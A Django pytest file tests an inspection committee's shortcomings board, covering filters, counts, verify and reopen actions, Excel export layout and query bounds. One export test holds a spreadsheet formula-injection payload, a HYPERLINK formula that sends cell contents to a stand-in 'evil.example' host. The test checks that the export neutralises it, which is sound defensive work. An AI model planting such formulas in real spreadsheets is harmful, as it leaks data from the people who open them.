"""The UBKT board: filters, counts, one-click verify and reopen, export, bounded queries at 5,000 items."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from phuthang import jobs, periods
from phuthang.models import Job
from reviews.models import Manifestation, Shortcoming
from reviews.services import shortcomings as services
from reviews.views.shortcomings import board_filter
from tests.conftest import vi
from tests.factories import make_cell, make_committee, make_member, make_shortcoming


def _bulk(ward, n: int) -> None:
    """n shortcomings spread over both cells, every status, a third overdue, inserted in one statement."""
    today = periods.today()
    people = [make_member(ward.cell01), make_member(ward.cell02)]
    manifestations = list(Manifestation.objects.all())
    statuses = Shortcoming.Status.values
    rows = []
    for i in range(n):
        person = people[i % 2]
        due = today + dt.timedelta(days=(i % 3 - 1) * 20)
        rows.append(
            Shortcoming(
                source="review",
                cell_id=person.cell_id,
                subject_member=person,
                owner=person,
                description=f"Hạn chế {i}",
                manifestation=manifestations[i % 27],
                raised_on=today - dt.timedelta(days=60),
                period_start=dt.date(today.year, 1, 1),
                original_due_on=due,
                due_on=due,
                status=statuses[i % len(statuses)],
            )
        )
    Shortcoming.objects.bulk_create(rows, batch_size=1000)


def test_counts_per_status_are_shown_at_the_top(client, ward, inspector):
    make_shortcoming(ward.cell01, status="reported_fixed")
    make_shortcoming(ward.cell02, status="verified")
    client.force_login(inspector)
    response = client.get("/shortcomings/")
    assert response.context["counts"]["reported_fixed"] == 1
    assert response.context["counts"]["verified"] == 1
    assert response.context["counts"]["total"] == 2


def test_filtering_overdue_items_of_one_cell(client, ward, inspector):
    today = periods.today()
    late = make_shortcoming(
        ward.cell01, raised_on=today - dt.timedelta(days=90), due_on=today - dt.timedelta(days=3)
    )
    make_shortcoming(ward.cell01)  # on time
    make_shortcoming(
        ward.cell02, raised_on=today - dt.timedelta(days=90), due_on=today - dt.timedelta(days=3)
    )
    client.force_login(inspector)
    response = client.get(f"/shortcomings/?timeliness=overdue&cell={ward.cell01.pk}")
    assert [item.pk for item in response.context["page"]] == [late.pk]


def test_filters_by_manifestation_group_owner_period_and_repeat(client, ward, inspector):
    m = Manifestation.objects.get(code="2.5")
    wanted = make_shortcoming(ward.cell01, manifestation=m, is_repeat=True)
    make_shortcoming(ward.cell01, manifestation=Manifestation.objects.get(code="1.1"))
    client.force_login(inspector)
    year = wanted.period_start.year
    owner = wanted.owner.full_name.split()[-1]
    response = client.get(f"/shortcomings/?group=2&owner={owner}&year={year}&repeat=on")
    assert [item.pk for item in response.context["page"]] == [wanted.pk]


def test_nonsense_filters_are_ignored_not_a_500(client, ward, inspector):
    make_shortcoming(ward.cell01)
    client.force_login(inspector)
    response = client.get("/shortcomings/?status=nope&cell=abc&year=x&page=999")
    assert response.status_code == 200


def test_ubkt_verifies_from_the_board_and_returns_to_the_same_filtered_page(client, ward, inspector):
    item = make_shortcoming(ward.cell01, status="reported_fixed")
    client.force_login(inspector)
    back = f"/shortcomings/?cell={ward.cell01.pk}"
    response = client.post(
        f"/shortcomings/{item.pk}/status/",
        {"action": "verify", "note": "Đã kiểm tra", "version": 1, "next": back, "confirmed": "1"},
    )
    assert response["Location"] == back
    item.refresh_from_db()
    assert (item.status, item.verification_note) == ("verified", "Đã kiểm tra")


def test_leaders_read_the_board_but_get_no_verify_buttons(client, ward, leader):
    item = make_shortcoming(ward.cell01, status="reported_fixed")
    client.force_login(leader)
    page = client.get("/shortcomings/").content.decode()
    assert f"/shortcomings/{item.pk}/status/" not in page


def test_a_member_gets_404_on_the_board(client, ward, member):
    client.force_login(member)
    assert client.get("/shortcomings/").status_code == 404


def _export(client, query: str = ""):
    response = client.get(f"/shortcomings/export.xlsx{query}")
    assert response.status_code == 200, response.content[:500]
    return response, load_workbook(io.BytesIO(response.content)).active


def test_the_export_holds_the_filtered_list(client, ward, inspector):
    make_shortcoming(ward.cell01, description="Trong chi bộ 1")
    make_shortcoming(ward.cell02, description="Trong chi bộ 2")
    client.force_login(inspector)
    response, sheet = _export(client, f"?cell={ward.cell01.pk}")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = list(sheet.iter_rows(min_row=4, values_only=True))  # below the title, the filters and the header
    assert len(rows) == 1 and rows[0][3] == "Trong chi bộ 1"


def test_an_export_too_long_for_a_request_is_written_by_a_job_and_downloaded_from_its_page(
    client, ward, inspector, monkeypatch
):
    make_shortcoming(ward.cell01, description="Trong chi bộ 1")
    make_shortcoming(ward.cell02, description="Trong chi bộ 2")
    make_shortcoming(ward.cell02, description="Cũng chi bộ 2")
    monkeypatch.setattr(jobs, "IN_REQUEST_ROWS", 1)  # a province's 32,000 shortcomings
    client.force_login(inspector)

    response = client.get(f"/shortcomings/export.xlsx?cell={ward.cell02.pk}")
    job = Job.objects.get(kind="board_export")
    assert response["Location"] == f"/jobs/{job.pk}/"
    assert jobs.run(job.pk) == "done"

    page = client.get(f"/jobs/{job.pk}/").text
    assert vi("The sheet of %(count)d shortcomings is ready.", count=2) in page
    download = client.get(f"/jobs/{job.pk}/file/")
    assert download["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(download.content)).active
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert sorted(row[3] for row in rows) == ["Cũng chi bộ 2", "Trong chi bộ 2"]  # the filter kept
    assert f"{vi('Cell')}: {ward.cell02.name}" in sheet.cell(row=2, column=1).value


def test_the_export_is_a_sheet_to_print_as_it_is(client, ward, inspector):
    today = periods.today()
    for day in (3, 2, 1):
        make_shortcoming(ward.cell01, due_on=today + dt.timedelta(days=day), raised_on=today)
    client.force_login(inspector)

    _response, sheet = _export(client, f"?cell={ward.cell01.pk}&status=open")

    title, about, header = (sheet.cell(row=n, column=1).value for n in (1, 2, 3))
    assert title == vi("LIST OF SHORTCOMINGS AND THEIR REMEDIATION")
    assert f"{vi('Cell')}: {ward.cell01.name}" in about and f"{vi('Status')}: {vi('Open')}" in about
    assert f"{timezone.localtime():%d/%m/%Y}" in about  # when it was exported, in Vietnam time
    assert header == "STT" and sheet.cell(row=3, column=1).font.b
    assert [sheet.cell(row=n, column=1).value for n in (4, 5, 6)] == [1, 2, 3]  # row numbers, not ids
    due = sheet.cell(row=4, column=10)
    assert sheet.cell(row=3, column=10).value == vi("Due date")
    assert due.is_date and due.value.date() == today + dt.timedelta(days=1)
    assert due.number_format == "dd/mm/yyyy"
    assert sheet.cell(row=4, column=4).alignment.wrap_text
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:N6"
    assert sheet.print_title_rows == "$3:$3"  # the header on every printed page
    assert int(sheet.page_setup.paperSize) == 9 and sheet.page_setup.orientation == "landscape"  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMN"]
    assert len(set(widths)) > 3 and max(widths) <= 45  # fitted to the content, within bounds


def test_a_formula_in_a_shortcoming_is_exported_as_its_text(client, ward, inspector):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    make_shortcoming(ward.cell01, description=attack, plan="+1 buổi", verification_note="@SUM(A1)")
    make_shortcoming(ward.cell01, description="-2+3")
    client.force_login(inspector)

    response, sheet = _export(client)

    descriptions = {sheet.cell(row=n, column=4).value for n in (4, 5)}
    assert descriptions == {attack, "-2+3"}
    assert sheet.cell(row=4, column=4).data_type == "s" and sheet.cell(row=4, column=4).quotePrefix
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and "HYPERLINK" in xml


def test_a_control_character_in_an_old_row_does_not_break_the_export(client, ward, inspector):
    make_shortcoming(ward.cell01, description="Chưa\x01 gương mẫu\x0b", plan="Kế\x1f hoạch\n2 dòng")
    client.force_login(inspector)

    _response, sheet = _export(client)

    assert sheet.cell(row=4, column=4).value == "Chưa gương mẫu"
    assert sheet.cell(row=4, column=6).value == "Kế hoạch\n2 dòng"  # a line break is kept


def test_an_empty_export_still_has_its_title_and_header(client, ward, inspector):
    client.force_login(inspector)
    _response, sheet = _export(client)
    assert sheet.max_row == 3 and sheet.cell(row=3, column=1).value == "STT"


@pytest.mark.parametrize("n", [10, 5000])
def test_the_board_runs_the_same_queries_at_5000_shortcomings(
    client, ward, inspector, n, django_assert_num_queries
):
    _bulk(ward, n)
    client.force_login(inspector)
    # session, user, access (member, positions, this month's assignments, committee tree), the tally the
    # period filter's years are read from (one query), status counts of the rows (an overdue filter: not from
    # the tally), the page's rows with cell/member/owner/manifestation (the paginator is told the total), a
    # cell the user may record for ("Record" button: exists?), the cells of the cell filter, the menu's member
    # and inbox count
    with django_assert_num_queries(12):
        response = client.get("/shortcomings/?timeliness=overdue")
    assert response.status_code == 200
    assert len(response.context["page"].object_list) == min(50, response.context["counts"]["total"])


def test_the_export_of_5000_rows_runs_a_fixed_number_of_queries(
    client, ward, inspector, django_assert_num_queries, monkeypatch
):
    _bulk(ward, 5000)
    monkeypatch.setattr(jobs, "IN_REQUEST_ROWS", 10_000)  # in the request, as below the job's threshold
    client.force_login(inspector)
    # session, user, access (member, positions, assignments, committee tree), the tally the years are read
    # from, the cells of the cell filter (a list, or a search when there are many), the count (in the request
    # or a job?), the rows
    with django_assert_num_queries(10):
        response = client.get("/shortcomings/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 3 + 5000  # title, filters, header, rows


def test_the_board_lists_items_still_to_act_on_before_closed_ones(client, inspector, ward):
    today = periods.today()
    verified = make_shortcoming(ward.cell01, due_on=today - dt.timedelta(days=90))
    Shortcoming.objects.filter(pk=verified.pk).update(status=Shortcoming.Status.VERIFIED)
    open_item = make_shortcoming(ward.cell01, due_on=today + dt.timedelta(days=30))
    client.force_login(inspector)

    page = client.get("/shortcomings/").content.decode()

    assert page.index(f"/shortcomings/{open_item.pk}/") < page.index(f"/shortcomings/{verified.pk}/")


# --- The cell filter at province scale


def test_up_to_100_cells_the_filter_lists_them(client, ward, inspector):
    client.force_login(inspector)
    page = client.get("/shortcomings/").content.decode()
    assert f'<option value="{ward.cell02.pk}">{ward.cell02.name}</option>' in page
    assert 'name="cell_search"' not in page


def test_over_100_cells_the_filter_searches_them_by_name_or_code(client, ward, inspector):
    for i in range(101):
        make_cell(ward.committee, name=f"Chi bộ Khu {i}", code=f"K{i:03}")
    wanted = make_shortcoming(ward.cell02, description="Ở trường tiểu học")
    make_shortcoming(ward.cell01, description="Ở tổ dân phố 1")
    client.force_login(inspector)
    page = client.get("/shortcomings/").content.decode()
    assert "<option" not in page.split('data-testid="filters"')[1].split('name="status"')[0]
    assert "Chi bộ Khu 99" not in page  # no list of every cell
    for search in ("tiểu học", "cb02"):
        listed = client.get(f"/shortcomings/?cell_search={search}").context["page"].object_list
        assert [item.pk for item in listed] == [wanted.pk]


def test_over_100_cells_a_link_to_one_cells_shortcomings_still_filters_and_names_it(client, ward, inspector):
    for i in range(101):
        make_cell(ward.committee, name=f"Chi bộ Khu {i}", code=f"K{i:03}")
    wanted = make_shortcoming(ward.cell01)
    make_shortcoming(ward.cell02)
    client.force_login(inspector)
    response = client.get(f"/shortcomings/?cell={ward.cell01.pk}")
    assert [item.pk for item in response.context["page"].object_list] == [wanted.pk]
    page = response.content.decode()
    assert f'type="hidden" name="cell" value="{ward.cell01.pk}"' in page
    assert ward.cell01.name in page.split('data-testid="chosen-cell"')[1]


def test_verify_on_the_board_asks_once_with_an_optional_note_before_closing_the_item(client, ward, inspector):
    item = make_shortcoming(ward.cell01, status="reported_fixed")
    client.force_login(inspector)
    back = f"/shortcomings/?cell={ward.cell01.pk}"
    asked = client.post(f"/shortcomings/{item.pk}/status/", {"action": "verify", "version": 1, "next": back})
    assert asked.status_code == 200
    page = asked.content.decode()
    assert 'name="confirmed" value="1"' in page and f'value="{back}"' in page
    assert 'name="note"' in page and escape(vi("Yes, verify the fix")) in page
    item.refresh_from_db()
    assert (item.status, item.version) == ("reported_fixed", 1)  # the first tap closed nothing
    done = client.post(
        f"/shortcomings/{item.pk}/status/",
        {"action": "verify", "version": 1, "next": back, "confirmed": "1", "note": ""},
    )
    assert done["Location"] == back
    item.refresh_from_db()
    assert item.status == "verified"


def test_a_reopen_note_stays_on_the_item_and_in_the_export_after_a_verification_without_a_note(
    client, ward, inspector
):
    item = make_shortcoming(ward.cell01, status="reported_fixed")
    client.force_login(inspector)
    url = f"/shortcomings/{item.pk}/status/"
    client.post(url, {"action": "verify", "version": 1, "note": "Đã kiểm tra lần 1", "confirmed": "1"})
    client.post(url, {"action": "reopen", "version": 2, "note": "Phát hiện tái phạm"})
    item.refresh_from_db()
    Shortcoming.objects.filter(pk=item.pk).update(status="reported_fixed")
    client.post(url, {"action": "verify", "version": item.version, "note": "", "confirmed": "1"})
    item.refresh_from_db()
    assert item.status == "verified" and item.verification_note == "Phát hiện tái phạm"
    notes = client.get(f"/shortcomings/{item.pk}/").content.decode()
    assert "Đã kiểm tra lần 1" in notes.split('data-testid="timeline"')[0]
    assert "Phát hiện tái phạm" in notes.split('data-testid="timeline"')[0]
    rows = list(load_workbook(io.BytesIO(client.get("/shortcomings/export.xlsx").content)).active.values)
    cell = rows[3][13]  # below the title, the filters and the header; STT first
    assert "Đã kiểm tra lần 1" in cell and "Phát hiện tái phạm" in cell
    assert cell.index("Đã kiểm tra lần 1") < cell.index("Phát hiện tái phạm")


@pytest.mark.parametrize("n", [10, 5000])
def test_the_unfiltered_board_reads_its_counts_and_years_from_the_counts_table(
    client, ward, inspector, n, django_assert_num_queries
):
    _bulk(ward, n)
    client.force_login(inspector)
    # session, user, access (member, positions, this month's assignments, committee tree), the tally (the
    # years, the counts, the extended and the overdue per year and status: the committee's roll-up and the
    # user's rows beyond it, one query), the page's rows, the cells of the cell filter, a cell the user may
    # record for (exists?), the menu's inbox count
    with django_assert_num_queries(11):
        response = client.get("/shortcomings/")
    counts = response.context["counts"]
    assert counts["total"] == Shortcoming.objects.count() == response.context["page"].paginator.count
    assert counts["open"] == Shortcoming.objects.filter(status="open").count()


@pytest.mark.parametrize("role", ["inspector", "leader", "secretary", "overseer", "staff"])
def test_the_boards_counts_and_years_are_those_of_the_rows_in_sight_whoever_reads_it(request, ward, role):
    user = request.getfixturevalue(role)
    today = periods.today()
    last_year = dt.date(today.year - 1, 1, 1)
    _bulk(ward, 40)
    make_shortcoming(ward.cell01, period_start=last_year, due_on=today - dt.timedelta(days=400))  # overdue
    moved = make_shortcoming(ward.cell02, status="in_progress")
    Shortcoming.objects.filter(pk=moved.pk).update(due_on=today + dt.timedelta(days=90))  # extended
    elsewhere = make_cell(make_committee(), code="ELSEWHERE")
    make_shortcoming(elsewhere)  # nobody's here but staff's
    if role in ("secretary", "overseer"):  # their own shortcoming in a cell they do not follow
        make_shortcoming(elsewhere, owner=user.member, due_on=today - dt.timedelta(days=3))
    visible = Shortcoming.objects.visible_to(user)
    for query in ["", "status=open", f"year={today.year}", f"status=in_progress&year={today.year - 1}"]:
        form, rows, tally = board_filter(user, QueryDict(query))
        assert services.board_counts(form, rows, tally, today) == services.status_counts(rows, today), query
    assert (
        services.board_years(tally) == sorted({d.year for d in visible.dates("period_start", "year")})[::-1]
    )


def test_the_boards_rows_are_read_without_the_texts_it_does_not_show(client, ward, inspector):
    make_shortcoming(ward.cell01, status="reported_fixed", plan="Kế hoạch dài", verification_note="Ghi chú")
    make_shortcoming(ward.cell02, subject_member=None, owner=ward.members02[0])  # the cell's own
    client.force_login(inspector)
    response = client.get("/shortcomings/")
    rows = list(response.context["page"])
    assert all({"plan", "verification_note"} <= item.get_deferred_fields() for item in rows)
    page = response.content.decode()
    assert "Kế hoạch dài" not in page and ward.cell02.name in page and ward.members02[0].full_name in page


@pytest.mark.parametrize(("role", "offered"), [("inspector", True), ("secretary", True), ("leader", False)])
def test_the_record_button_is_offered_from_one_cell_read_never_the_list_of_every_cell(
    client, ward, request, role, offered
):
    for i in range(5):
        make_cell(ward.committee, code=f"X{i}")
    client.force_login(request.getfixturevalue(role))
    with CaptureQueriesContext(connection) as queries:
        page = client.get("/shortcomings/").content.decode()
    assert ('href="/shortcomings/new/"' in page) == offered
    cells_read = [q["sql"] for q in queries if q["sql"].startswith('SELECT "cells_cell"."id"')]
    assert all("LIMIT" in sql for sql in cells_read)  # the filter's list (a bounded one), nothing more
